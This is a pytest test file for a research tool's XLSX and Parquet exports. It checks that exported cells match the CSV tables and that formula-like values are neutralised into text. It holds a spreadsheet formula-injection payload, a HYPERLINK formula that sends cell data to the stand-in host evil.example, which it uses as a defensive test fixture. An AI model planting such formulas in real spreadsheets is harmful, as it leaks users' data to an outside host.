"""``export xlsx`` and ``export parquet``: the CSV export's tables and columns, read back with
openpyxl and pyarrow and compared cell by cell with the CSV files; XLSX text neutralised."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import select

from conftest import copy_sqlite
from lowpolitics.exchange.csv_export import TABLES, export_csv
from lowpolitics.exchange.spreadsheets import export_parquet, export_xlsx
from lowpolitics.framework.cells import neutralise
from lowpolitics.framework.errors import ConfigError
from lowpolitics.store.corpus import add_coding, add_memo, ensure_code
from lowpolitics.store.db import make_engine, session_scope
from lowpolitics.store.models import Activity, Document

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture(scope="module")
def exported(tmp_path_factory, demo_db):
    """The demo with a formula-like title and coding memo, exported as CSV, XLSX and Parquet."""
    folder = tmp_path_factory.mktemp("exports")
    engine = make_engine(copy_sqlite(demo_db, folder / "demo.db"))
    with session_scope(engine) as session:
        activity = session.scalars(select(Activity).order_by(Activity.id)).first()
        activity.title = EVIL
        document = session.scalars(select(Document).order_by(Document.id)).first()
        coding = add_coding(session, document, ensure_code(session, "x"), 0, 5, "amina")
        add_memo(session, "@SUM(1,2)", "amina", coding=coding)
        add_memo(session, "second thought", "amina", coding=coding)
    export_csv(engine, folder / "csv")
    export_xlsx(engine, folder / "data.xlsx")
    export_parquet(engine, folder / "parquet")
    engine.dispose()
    return folder


def csv_rows(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / "csv" / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def _text(value) -> str:
    return "" if value is None else str(value)


def test_xlsx_has_the_csv_tables_cell_for_cell(exported):
    from openpyxl import load_workbook

    book = load_workbook(exported / "data.xlsx", read_only=True)
    assert book.sheetnames == list(TABLES)
    for name, columns in TABLES.items():
        rows = list(book[name].iter_rows(values_only=True))
        assert rows[0] == columns
        expected = csv_rows(exported, name)
        assert len(rows) - 1 == len(expected) > 0, name
        for got, want in zip(rows[1:], expected, strict=True):
            got = list(got) + [None] * (len(columns) - len(got))  # trailing empty cells
            assert [_text(v) for v in got] == [want[c] for c in columns], name
    registry = list(book["registry"].iter_rows(min_row=2, values_only=True))
    titles = [row[TABLES["registry"].index("title")] for row in registry]
    assert "'" + EVIL in titles and EVIL not in titles  # text, never a formula
    participants = [r[TABLES["registry"].index("participants_total")] for r in registry]
    assert any(isinstance(v, int) for v in participants)  # counts are numbers
    memos = [r[-1] for r in book["codings"].iter_rows(min_row=2, values_only=True) if r[-1]]
    assert "'@SUM(1,2)\n\nsecond thought" in memos


def test_xlsx_cells_are_strings_not_formulas(exported):
    from openpyxl import load_workbook

    sheet = load_workbook(exported / "data.xlsx")["registry"]
    column = TABLES["registry"].index("title") + 1
    types = {sheet.cell(row, column).data_type for row in range(2, sheet.max_row + 1)}
    assert types == {"s"}


def test_parquet_has_the_csv_tables_typed(exported):
    import pyarrow as pa
    import pyarrow.parquet as pq

    for name, columns in TABLES.items():
        table = pq.read_table(exported / "parquet" / f"{name}.parquet")
        assert tuple(table.column_names) == columns
        expected = csv_rows(exported, name)
        got = table.to_pylist()
        assert len(got) == len(expected) > 0, name
        for row, want in zip(got, expected, strict=True):
            # the CSV cell is the parquet value as text, neutralised for spreadsheets
            assert {c: neutralise(_text(row[c])) for c in columns} == want, name
    registry = pq.read_table(exported / "parquet" / "registry.parquet")
    assert registry.schema.field("participants_total").type == pa.int64()
    assert EVIL in registry.column("title").to_pylist()  # parquet holds the text as it is
    codings = pq.read_table(exported / "parquet" / "codings.parquet")
    assert codings.schema.field("confidence").type == pa.float64()


def test_export_commands(cli, tmp_path, exported):
    db = f"sqlite:///{exported / 'demo.db'}"
    result = cli("--db", db, "export", "xlsx", tmp_path / "out.xlsx")
    assert result.code == 0 and "codings" in result.out and (tmp_path / "out.xlsx").exists()
    result = cli("--db", db, "export", "parquet", tmp_path / "pq")
    assert result.code == 0 and "registry.parquet" in "".join(result.out.split())  # rich wraps
    assert sorted(p.name for p in (tmp_path / "pq").iterdir()) == sorted(
        f"{name}.parquet" for name in TABLES
    )
    wrong = cli("--db", db, "export", "xlsx", tmp_path / "out.csv")
    assert wrong.code == 2 and "must end in .xlsx" in wrong.err


def test_codings_csv_imports_back(exported, tmp_path):
    """The codings file the exports share is the codings import format."""
    from lowpolitics.ingest.codings import parse_codings

    parsed = parse_codings(exported / "csv" / "codings.csv")
    assert parsed.ok and len(parsed.records) == len(csv_rows(exported, "codings"))
    memo = next(r for r in parsed.records if r.memo and r.memo.startswith("@SUM"))
    assert memo.coder == "amina"  # the apostrophe is read away again


def test_a_file_where_the_folder_should_be(tmp_path, exported):
    engine = make_engine(f"sqlite:///{exported / 'demo.db'}")
    (tmp_path / "taken").write_text("x", encoding="utf-8")
    with pytest.raises(ConfigError, match="not a folder"):
        export_parquet(engine, tmp_path / "taken")
    engine.dispose()
